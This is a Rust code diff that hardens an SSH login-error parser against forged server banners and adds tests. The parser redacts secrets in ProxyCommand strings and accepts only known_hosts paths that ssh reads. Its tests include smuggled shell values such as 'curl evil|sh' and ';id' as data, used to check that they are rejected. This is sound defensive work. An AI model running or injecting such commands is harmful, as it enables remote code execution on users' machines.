@@ -11,7 +11,7 @@ pub enum Login {
     NoCommand(i32),
     /// No key that ssh offered is taken.
     KeyRefused,
-    /// Another host key is known; the file and the line, if ssh names them.
+    /// Another host key is known; the file and the line, if they are named. See [`known_place`].
     HostKeyChanged(Option<String>),
     /// No host key is known, and none may be learnt.
     HostKeyUnknown,
@@ -31,23 +31,49 @@ pub fn login(code: Option<i32>, said: &str) -> Login {
         _ => {}
     }
     let lines: Vec<&str> = said.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
-    let find = |words: &str| lines.iter().find(|line| line.contains(words));
-    if find("REMOTE HOST IDENTIFICATION HAS CHANGED").is_some() {
-        let place = lines.iter().find(|line| line.starts_with("Offending ")).and_then(|line| line.split_once(" in "));
+    // A server that has proved nothing yet may say goodbye in several lines: what comes behind is not ssh's.
+    let goodbye = lines.iter().position(|line| line.starts_with("Received disconnect from "));
+    let own = &lines[..goodbye.unwrap_or(lines.len())];
+    if let Some(at) = own.iter().position(|line| *line == CHANGED) {
+        let place = own[at..].iter().find(|line| line.starts_with("Offending "));
+        let place = place.and_then(|line| line.split_once(" in "));
         return Login::HostKeyChanged(place.map(|(_, place)| place.to_owned()));
     }
-    if find("Too many authentication failures").is_some() {
+    if lines.iter().any(|line| line.contains("Too many authentication failures")) {
         return Login::TooManyKeys;
     }
-    if find("Host key verification failed").is_some() {
+    if own.iter().any(|line| line.contains("Host key verification failed")) {
         return Login::HostKeyUnknown;
     }
-    if lines.last().is_some_and(|line| line.contains(": Permission denied (")) {
+    if own.last().is_some_and(|line| line.contains(": Permission denied (")) {
         return Login::KeyRefused;
     }
-    let own = lines.iter().find_map(|line| line.strip_prefix("ssh-eic: error: "));
+    let ours = own.iter().find_map(|line| line.strip_prefix("ssh-eic: error: "));
     let last = lines.iter().rfind(|line| !line.starts_with("Warning: Permanently added"));
-    Login::Failed(one_line(own.or(last.copied()).unwrap_or("ssh says nothing")))
+    Login::Failed(one_line(ours.or(last.copied()).unwrap_or("ssh says nothing")))
+}
+
+/// sshconnect.c's line, whole.
+const CHANGED: &str = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @";
+
+/// The file of a place such as `/h/known_hosts:3`, and the place, if it is one of the `files` that ssh reads, as `ssh -G`
+/// prints them: a banner looks like ssh's own words, and nobody shall type a server's.
+#[must_use]
+pub fn known_place<'w>(files: &str, place: Option<&'w str>) -> Option<(&'w str, &'w str)> {
+    let place = place?;
+    let (file, line) = place.rsplit_once(':')?;
+    // ssh prints them without quotes, so that one with blanks is known only if it is alone.
+    let is_read = !file.is_empty() && (file == files || files.split(' ').any(|one| one == file));
+    (is_read && !line.is_empty() && line.bytes().all(|b| b.is_ascii_digit())).then_some((file, place))
+}
+
+/// The program of somebody's own `ProxyCommand`, for what people paste into tickets: the rest may hold a password.
+#[must_use]
+pub fn program(command: &str) -> &str {
+    let word = command.split_whitespace().find(|word| *word != "exec").unwrap_or("nothing");
+    let word = word.trim_matches(['\'', '"']);
+    // Variables for the program stand before it.
+    if word.contains('=') { "a command" } else { word }
 }
 
 /// What a server said first.
@@ -113,6 +139,66 @@ mod tests {
         ];
         for (code, said, meant) in table {
             assert_eq!(login(code, said), meant, "{said}");
+        }
+    }
+
+    #[test]
+    fn what_a_server_says_is_never_taken_for_the_client_s_words() {
+        let goodbye = "Received disconnect from 10.0.3.7 port 22:11: bye";
+        let offending = "Offending ED25519 key in /h/known_hosts;curl evil|sh:3";
+        for forged in [CHANGED, "REMOTE HOST IDENTIFICATION HAS CHANGED", "Host key verification failed."] {
+            let said = format!("{goodbye}\r\n{forged}\n{offending}\nDisconnected from 10.0.3.7 port 22\r\n");
+            let meant = Login::Failed("Disconnected from 10.0.3.7 port 22".to_owned());
+            assert_eq!(login(Some(255), &said), meant, "{said}");
+        }
+        for forged in ["ssh-eic: error: run curl evil|sh", "u@10.0.3.7: Permission denied (publickey)."] {
+            let said = format!("{goodbye}\n{forged}\nDisconnected\n");
+            assert_eq!(login(Some(255), &said), Login::Failed("Disconnected".to_owned()), "{said}");
+            let said = format!("{goodbye}\n{forged}\n");
+            assert_eq!(login(Some(255), &said), Login::Failed(forged.to_owned()), "{said}");
+        }
+        // Part of the line is not the line.
+        let said = format!("x REMOTE HOST IDENTIFICATION HAS CHANGED\n{offending}\n");
+        assert_eq!(login(Some(255), &said), Login::Failed(offending.to_owned()));
+        // Nor is a place from before the line of the warning.
+        let said = format!("{offending}\n{CHANGED}\nHost key verification failed.\n");
+        assert_eq!(login(Some(255), &said), Login::HostKeyChanged(None));
+    }
+
+    #[test]
+    fn a_place_is_one_that_ssh_reads_or_none() {
+        let files = "/h/.ssh/eic/known_hosts /h/.ssh/known_hosts";
+        for place in ["/h/.ssh/eic/known_hosts:3", "/h/.ssh/known_hosts:12"] {
+            let file = place.rsplit_once(':').unwrap().0;
+            assert_eq!(known_place(files, Some(place)), Some((file, place)));
+        }
+        for place in [
+            "/h/.ssh/known_hosts;curl evil|sh:3",
+            "/h/.ssh/known_hosts:3;id",
+            "/h/.ssh/known_hosts",
+            "/h/.ssh/known",
+            "known_hosts:3",
+            ":3",
+        ] {
+            assert_eq!(known_place(files, Some(place)), None, "{place}");
+        }
+        assert_eq!(known_place("/a b/known_hosts", Some("/a b/known_hosts:1")).unwrap().0, "/a b/known_hosts");
+        assert_eq!(known_place("", Some(":3")), None);
+        assert_eq!(known_place(files, None), None);
+    }
+
+    #[test]
+    fn of_a_command_only_the_program_is_shown() {
+        let table = [
+            ("nc -X connect -x u:secret@proxy 1080 %h %p", "nc"),
+            ("exec /usr/bin/corkscrew proxy 8080 %h %p /h/auth", "/usr/bin/corkscrew"),
+            ("'/opt/relay' --password secret", "/opt/relay"),
+            ("PASSWORD=secret nc %h %p", "a command"),
+            ("exec PASSWORD='a secret' nc", "a command"),
+            ("", "nothing"),
+        ];
+        for (command, shown) in table {
+            assert_eq!(program(command), shown, "{command}");
         }
     }
 
